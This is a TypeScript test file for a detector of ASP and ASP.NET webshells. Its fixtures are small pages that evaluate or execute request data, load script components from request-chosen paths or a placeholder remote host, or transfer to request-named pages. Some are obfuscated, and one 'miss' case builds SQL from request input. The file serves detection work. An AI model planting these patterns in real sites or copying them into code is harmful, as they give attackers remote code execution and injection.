import detector from '../../../src/detectors/webshell/request-data-evaluated.js';
import { testDetector } from '../../helpers/detector-tester.js';
import { csharpPage, inlinePage } from './inline-page.js';
import { webSample } from './web-sample.js';

const sample = webSample(detector.id);

/** A page whose script engine gets code, an expression of VBScript, and calls a function of it with a field. */
const scripted = (code: string, called = '"up"') =>
  inlinePage(
    'asp',
    [
      '<% Set engine = CreateObject("ScriptControl") : engine.Language = "JScript"',
      `engine.AddCode ${code}`,
      `Response.Write engine.Run(${called}, Request.Form("d")) %>`,
    ].join('\n'),
  );
const literal = (text: string) => `"${text.replaceAll('"', '""')}"`;

testDetector(detector, {
  hits: [
    {
      name: 'JScript page, by way of a function and a variable',
      input: sample('hit/jscript.aspx.split'),
      detections: [{ message: 'evaluated', at: { label: 'source', line: 3 } }],
    },
    {
      name: 'classic ASP, kept in the session',
      input: sample('hit/state.asp.split'),
      detections: [{ message: 'evaluated', at: { label: 'sink', line: 5 } }],
    },
    {
      name: 'web method of a service',
      input: sample('hit/service.asmx.split'),
      detections: [{ message: 'evaluated', at: { label: 'sink', line: 4 } }],
    },
    {
      name: 'code within a reversed text',
      input: sample('hit/hidden.asp.split'),
      detections: [{ message: 'evaluated', at: { label: 'sink', line: 2 } }],
    },
    {
      name: 'evaluator by its name in a text',
      input: sample('hit/member.aspx.split'),
      detections: [{ message: 'evaluated', at: { label: 'sink', line: 3 } }],
    },
    {
      name: 'text from hexadecimal digits',
      input: sample('hit/digits.asp.split'),
      detections: [{ message: 'evaluated', at: { label: 'sink', line: 5 } }],
    },
    {
      name: 'unicode escapes and a comment',
      input: sample('hit/escaped.aspx.split'),
      detections: [{ message: 'evaluated', at: { label: 'sink', line: 2 } }],
    },
    {
      name: 'a page that is written and executed',
      input: sample('hit/written.asp.split'),
      detections: [{ message: 'evaluated', at: { label: 'sink', line: 7 } }],
    },
    {
      name: 'a page of a folder for data, between texts of its own',
      input: csharpPage('Server.Transfer("/App_Data/" + Request["k"] + ".aspx");'),
      detections: [{ message: 'page', at: { label: 'sink', line: 2 }, severity: 'high' }],
    },
    {
      name: 'a control of the request, or one of the page where none is asked for',
      input: csharpPage('LoadControl(Request["m"] == null ? "~/modules/home.ascx" : "~/" + Request["m"]);'),
      detections: [{ message: 'page', at: { label: 'sink', line: 2 }, severity: 'high' }],
    },
    {
      name: 'a control of the address, behind its query',
      input: csharpPage('var a = Request.RawUrl; LoadControl("~" + a.Substring(a.IndexOf("?c=") + 3));'),
      detections: [{ message: 'page', at: { label: 'sink', line: 2 }, severity: 'medium' }],
    },
    {
      name: 'a control by what stands in the address behind the page',
      input: csharpPage('var a = Request.PathInfo; LoadControl(a.Length > 1 ? "~" + a : "~/parts/home.ascx");'),
      detections: [{ message: 'page', at: { label: 'sink', line: 2 }, severity: 'medium' }],
    },
    {
      name: 'a component that lies beside the page',
      input: inlinePage('asp', '<%\r\nSet hash = GetObject("script:../lib/hash.txt")\r\n%>'),
      detections: [{ message: 'evaluated', at: { label: 'sink', line: 2 }, severity: 'low' }],
    },
    {
      name: 'a component at an address of the request, which one of its own stands in for',
      input: inlinePage(
        'asp',
        '<%\r\na = Request("p")\r\nIf a = "" Then a = Server.MapPath("lib/c.wsc")\r\nSet c = GetObject("script:" & a)\r\n%>',
      ),
      detections: [{ message: 'evaluated', at: { label: 'sink', line: 4 }, severity: 'critical' }],
    },
    {
      name: 'a component of another server',
      input: inlinePage('asp', '<%\r\nSet c = GetObject("script:http://files.invalid/c.sct")\r\n%>'),
      detections: [{ message: 'evaluated', at: { label: 'sink', line: 2 }, severity: 'critical' }],
    },
    {
      name: 'one of several variables of the page, by its name',
      input: inlinePage('asp', '<%\r\nprice = Eval("price_" & Request("size"))\r\n%>'),
      detections: [{ message: 'evaluated', at: { label: 'sink', line: 2 }, severity: 'low' }],
    },
    {
      name: 'fields of a form as variables, in a file that only declares',
      input: inlinePage(
        'asp',
        '<%\r\nSub Take()\r\nFor Each field In Request.Form\r\nvalue = Request.Form(field)\r\nExecute field & "=value"\r\nNext\r\nEnd Sub\r\n%>',
      ),
      detections: [{ message: 'evaluated', at: { label: 'sink', line: 5 }, severity: 'low' }],
    },
    {
      name: 'the same by itself',
      input: inlinePage(
        'asp',
        '<%\r\nFor Each field In Request.Form\r\nvalue = Request.Form(field)\r\nExecute field & "=value"\r\nNext\r\n%>',
      ),
      detections: [{ message: 'evaluated', at: { label: 'sink', line: 4 }, severity: 'critical' }],
    },
    {
      name: 'a call of the page, with what the request says',
      input: inlinePage('asp', '<%\r\nprice = Eval("Len(" & Request("size"))\r\n%>'),
      detections: [{ message: 'evaluated', at: { label: 'sink', line: 2 }, severity: 'critical' }],
    },
    {
      name: 'an old page that goes on to whichever page it is told',
      input: inlinePage(
        'asp',
        '<%\r\nServer.Transfer(Request.QueryString("l"))\r\nSet db = Server.CreateObject("ADODB.Connection")\r\ndb.Execute("Insert Into Visits Values (1)")\r\n%>',
      ),
      detections: [{ message: 'page', at: { label: 'sink', line: 2 }, severity: 'low' }],
    },
    {
      name: 'a page that does nothing else',
      input: inlinePage('asp', '<%\r\nServer.Transfer(Request.QueryString("l"))\r\n%>'),
      detections: [{ message: 'page', at: { label: 'sink', line: 2 }, severity: 'critical' }],
    },
    {
      name: 'the same of .NET',
      input: csharpPage('Server.Transfer(Request["l"]);'),
      detections: [{ message: 'page', at: { label: 'sink', line: 2 }, severity: 'critical' }],
    },
    ...[
      'function go(text) { return eval(text); }',
      'function go(text) { return this["ev" + "al"](text); }',
      'function go(text) { return \\u0065val(text); }',
      'function go(text) { return new Function(text)(); }',
      'function go(text) { return new ActiveXObject(text); }',
    ].map((code) => ({
      name: `a function that makes code of what it is given: ${code}`,
      input: scripted(literal(code)),
      detections: [{ message: 'evaluated' as const, at: { label: 'sink', line: 3 } }],
    })),
    {
      name: 'a function that the request names',
      input: scripted(literal('function up(text) { return text; }'), 'Request("f")'),
      detections: [{ message: 'evaluated', at: { label: 'sink', line: 3 } }],
    },
    {
      name: 'a function that the request brings',
      input: scripted('Request("g")'),
      detections: [
        { message: 'evaluated', at: { label: 'sink', line: 2 } },
        { message: 'evaluated', at: { label: 'sink', line: 3 } },
      ],
    },
    {
      name: 'the request as the subject of a block',
      input: inlinePage('asp', '<%@ Language="JScript" %>\r\n<% with (Request) { eval(String(Form("z"))); } %>'),
      detections: [{ message: 'evaluated', at: { label: 'sink', line: 2 } }],
    },
  ],
  misses: [
    {
      name: 'a function of its own that a script engine calls with a field',
      input: scripted(literal('function up(text) { return text.toUpperCase(); }')),
      looksAlike: true,
    },
    {
      name: 'a page of a folder of its own, between texts of its own',
      input: csharpPage('Server.Transfer("/reports/" + Request["k"] + ".aspx");'),
      looksAlike: true,
    },
    {
      name: 'a function of its own for the database that is named like a statement',
      input: inlinePage(
        'asp',
        '<%\r\nSet rs = Execute("Select Name From People where Mail=\'" & Request("mail") & "\'")\r\n%>',
      ),
      looksAlike: true,
    },
    {
      name: 'a function of the application that loads its template, in classic ASP',
      input: inlinePage(
        'asp',
        '<%\r\nSet view = New Templates\r\nResponse.Write view.LoadTemplate(Request("id"))\r\n%>',
      ),
      looksAlike: true,
    },
    { name: 'data binding of a page', input: sample('miss/binding.aspx'), looksAlike: true },
    { name: 'eval in script for the browser', input: sample('miss/client.aspx'), looksAlike: true },
    { name: 'a log that is written, and another page', input: sample('miss/part.asp'), looksAlike: true },
    { name: 'request data that is shown', input: sample('miss/plain.asp') },
  ],
});
